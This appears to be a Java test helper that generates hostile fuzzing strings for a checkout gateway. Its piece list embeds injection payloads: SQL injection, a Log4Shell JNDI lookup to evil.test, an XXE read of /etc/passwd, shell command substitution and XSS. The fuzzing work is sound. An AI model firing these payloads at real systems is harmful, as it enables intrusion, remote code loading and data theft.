package io.checkoutgateway.testing;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Texts that nobody sends by mistake: pieces that have broken other programs, and good texts that are bent. */
public final class Hostile {
    private static final List<String> PIECES = List.of(
            "",
            " ",
            "\0",
            "\t",
            "\n",
            "\r\n",
            "\u001b[31m",
            "\u007f",
            "\u0085",
            "\u200b",
            "\u202e",
            "\u2028",
            "\ufeff",
            "\uffff",
            "\ud800",
            "\udc00",
            "\ud83d\ude00",
            "é",
            "e\u0301",
            "ß",
            "İ",
            "。",
            "／",
            "＠",
            "％",
            "'",
            "\"",
            "`",
            "\\",
            "/",
            "//",
            "../",
            "..\\",
            "%",
            "%%",
            "%0",
            "%00",
            "%0d%0a",
            "%2e%2e%2f",
            "%c0%ae",
            "%ff",
            "%u0041",
            "+",
            "&",
            "=",
            "?",
            "#",
            "@",
            ":",
            ";",
            ",",
            "[",
            "]",
            "[]",
            "[[",
            "]]",
            "{",
            "}",
            "{}",
            "<",
            ">",
            "|",
            "*",
            "$",
            "^",
            "~",
            "' OR 1=1--",
            "'; DROP TABLE apps;--",
            "$1",
            "#{id}",
            "${jndi:ldap://evil.test/a}",
            "{{7*7}}",
            "%s%n%x",
            "<script>alert(1)</script>",
            "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
            "$(id)",
            "|id",
            "/etc/passwd",
            "C:\\",
            "file:///",
            "javascript:",
            "null",
            "true",
            "NaN",
            "Infinity",
            "-0",
            "0x1",
            "1e999",
            "-1",
            "0",
            "9223372036854775807",
            "9223372036854775808",
            "2147483648",
            "99999999999999999999999999",
            "1.0000000000000000000000000001",
            "00",
            "1e-400",
            "٣",
            "cs_test_",
            "01ARZ3NDEKTSV4RRFFQ69G5FAV",
            "0000-00-00T00:00:00Z",
            "2026-02-30T25:61:61Z",
            "+999999999-12-31T23:59:59Z",
            "2026-11-22T12:00:00+18:01",
            "__proto__",
            "constructor");

    private Hostile() {}

    /** A text of a few pieces and a little noise. */
    public static String text(Random random) {
        return IntStream.range(0, 1 + random.nextInt(5))
                .mapToObj(i -> random.nextInt(4) == 0 ? noise(random) : piece(random))
                .collect(Collectors.joining());
    }

    private static String piece(Random random) {
        String piece = PIECES.get(random.nextInt(PIECES.size()));
        return random.nextInt(40) == 0 ? piece.repeat(1 + random.nextInt(400)) : piece;
    }

    private static String noise(Random random) {
        int widest = List.of(0x7f, 0xff, 0xffff).get(random.nextInt(3));
        return random.ints(1 + random.nextInt(20), 0, widest + 1)
                .mapToObj(character -> String.valueOf((char) character))
                .collect(Collectors.joining());
    }

    /** A good text with one to four changes. */
    public static String bent(Random random, String good) {
        String text = good;
        for (int changes = 1 + random.nextInt(4); changes > 0; changes--) {
            text = bentOnce(random, text);
        }
        return text;
    }

    private static String bentOnce(Random random, String text) {
        int from = random.nextInt(text.length() + 1);
        int to = Math.min(text.length(), from + random.nextInt(8));
        String before = text.substring(0, from);
        String middle = text.substring(from, to);
        String after = text.substring(to);
        return switch (random.nextInt(8)) {
            case 0 -> before + after;
            case 1 -> before + middle + middle + after;
            case 2 -> before + piece(random) + middle + after;
            case 3 -> before + piece(random) + after;
            case 4 -> before;
            case 5 -> before + new StringBuilder(middle).reverse() + after;
            case 6 -> before + percentEncoded(middle) + after;
            default ->
                before + (random.nextBoolean() ? middle.toUpperCase(java.util.Locale.ROOT) : noise(random)) + after;
        };
    }

    /** Every byte as a percent sign and two digits. */
    public static String percentEncoded(String text) {
        StringBuilder encoded = new StringBuilder();
        for (byte octet : text.getBytes(StandardCharsets.UTF_8)) {
            encoded.append("%%%02X".formatted(octet & 0xff));
        }
        return encoded.toString();
    }

    /** Fit for a header's value, where anything else would be refused before anybody reads it. */
    public static String headerValue(String text) {
        return text.chars()
                .filter(character ->
                        (character >= 0x20 && character < 0x7f) || (character >= 0xa0 && character <= 0xff))
                .limit(4_000)
                .mapToObj(character -> String.valueOf((char) character))
                .collect(Collectors.joining())
                .strip();
    }

    /** Fit for one segment of a request line's path or for a value of its query. */
    public static String segment(Random random, String text) {
        String cut = text.length() > 1_000 ? text.substring(0, 1_000) : text;
        return random.nextInt(3) == 0
                ? percentEncoded(cut)
                : cut.codePoints()
                        .mapToObj(point -> point > 0x20 && point < 0x7f && "/?#".indexOf(point) < 0
                                ? Character.toString(point)
                                : percentEncoded(Character.toString(point)))
                        .collect(Collectors.joining());
    }
}
